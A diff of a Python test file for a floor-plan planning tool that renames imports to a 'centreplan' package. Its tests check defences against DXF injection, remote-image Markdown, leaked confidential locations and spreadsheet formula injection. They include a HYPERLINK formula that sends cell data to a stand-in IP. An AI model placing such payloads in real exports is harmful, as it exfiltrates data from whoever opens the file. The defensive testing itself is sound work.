@@ -20,10 +20,10 @@ from pathlib import Path
 import ezdxf
 import pytest
 
-from layouts.io import load_layout, loads
-from planner.cli import main
-from planner.errors import LayoutError, UnitError
-from planner.units import length_m
+from centreplan.layouts.io import load_layout, loads
+from centreplan.planner.cli import main
+from centreplan.planner.errors import LayoutError, UnitError
+from centreplan.planner.units import length_m
 
 ROOT = Path(__file__).resolve().parents[2]
 
@@ -55,7 +55,7 @@ def write(tmp_path: Path, text: str, name: str = "centre.yaml") -> Path:
 
 def cli(*args: str, timeout: float = 60) -> subprocess.CompletedProcess:
     """``centreplan ARGS`` in a fresh process, killed after ``timeout`` seconds (a freeze fails the test)."""
-    return subprocess.run([sys.executable, "-m", "planner.cli", *args], capture_output=True, text=True,
+    return subprocess.run([sys.executable, "-m", "centreplan.planner.cli", *args], capture_output=True, text=True,
                           timeout=timeout, cwd=ROOT, env={**os.environ, "PYTHONPATH": str(ROOT)})
 
 
@@ -103,8 +103,8 @@ def test_numbers_silently_misread_in_a_file(tmp_path, capsys):
 def test_numbers_silently_misread_through_the_dxf_importer(tmp_path):
     # the importer hands XDATA numbers it cannot read as plain floats to the model, so they go
     # through the same grammar: a comma is a decimal, an ambiguous form is refused
-    from layouts.dxf.openings import number_or_text as _number_or_text
-    from planner.model import Room
+    from centreplan.layouts.dxf.openings import number_or_text as _number_or_text
+    from centreplan.planner.model import Room
 
     room = Room(id="R", use="office", polygon=[(0, 0), (3, 0), (3, 3)], height=_number_or_text("2,8"))
     assert room.height == pytest.approx(2.8)
@@ -132,7 +132,7 @@ def test_a_one_line_file_freezes_everything_from_the_command_line(tmp_path):
 
 
 def test_parse_quantity_grammar():
-    from planner.units import parse_quantity, ureg
+    from centreplan.planner.units import parse_quantity, ureg
 
     assert parse_quantity("15 L/person/day") == (15.0, ureg.Unit("L/person/day"))
     assert parse_quantity("12,5 m²") == (12.5, ureg.Unit("m**2")) == parse_quantity("12.5 m2")
@@ -190,7 +190,7 @@ def test_dxf_injection_control_characters_are_refused_on_load(tmp_path, name):
 
 def test_dxf_injection_writer_keeps_texts_on_one_line(tmp_path):
     # a centre built in code (not from a file) with line breaks in its texts still gives a valid DXF
-    from exports.dxf import dxf_bytes
+    from centreplan.exports.dxf import dxf_bytes
 
     centre = loads(layout(), "c.yaml")
     evil = "Centre\n0\nEOF\n"
@@ -223,7 +223,7 @@ def test_dxf_injection_terminal_output_escapes_control_sequences(tmp_path, capsy
 # ---- 5. the app fetches remote URLs ------------------------------------------------------------------
 
 def test_the_app_fetches_remote_urls_names_render_as_plain_text():
-    from planner.text_safety import markdown_plain
+    from centreplan.planner.text_safety import markdown_plain
 
     shown = markdown_plain("![x](http://203.0.113.9/a.png) <img src=http://203.0.113.9/b.png> **b** `c`")
     assert re.search(r"(?<!\\)[!<>\[\]*`]", shown) is None  # every Markdown/HTML character escaped
@@ -270,7 +270,7 @@ def _all_export_text(paths: list[Path]) -> str:
 
 
 def test_a_confidential_centres_location_is_in_no_export(tmp_path):
-    from exports import export_all
+    from centreplan.exports import export_all
 
     secret = "Quartier Zeta, rue 12"
     centre = loads(layout(extra=f", confidential: true, location: {json.dumps(secret)}"), "c.yaml")
@@ -292,7 +292,7 @@ FORMULA = '=HYPERLINK("http://203.0.113.9/?"&A1,"x")'
 
 
 def test_csv_formula_injection_is_neutralised(tmp_path):
-    from exports import export_all
+    from centreplan.exports import export_all
 
     centre = loads(layout(name="@SUM(1+1)", room=FORMULA), "c.yaml")
     written = export_all(centre, tmp_path, ["csv", "xlsx"], "en")
@@ -319,7 +319,7 @@ def test_csv_formula_injection_is_neutralised(tmp_path):
 
 
 def test_sheet_cell_rule():
-    from planner.text_safety import sheet_cell
+    from centreplan.planner.text_safety import sheet_cell
 
     assert sheet_cell("=1+1") == "'=1+1" and sheet_cell("+33 6") == "'+33 6" and sheet_cell("@x") == "'@x"
     assert sheet_cell("\tx") == "'\tx" and sheet_cell("\rx") == "'\rx" and sheet_cell("-1+2") == "'-1+2"
@@ -353,7 +353,7 @@ def test_some_outlines_crash_the_geometry(tmp_path, shape):
 
 
 def test_some_outlines_crash_the_geometry_plan_is_polygonal():
-    from planner.geometry import build_plan
+    from centreplan.planner.geometry import build_plan
 
     centre = loads(layout(polygon=SHAPES["keyhole"]), "c.yaml")
     plan = build_plan(centre)
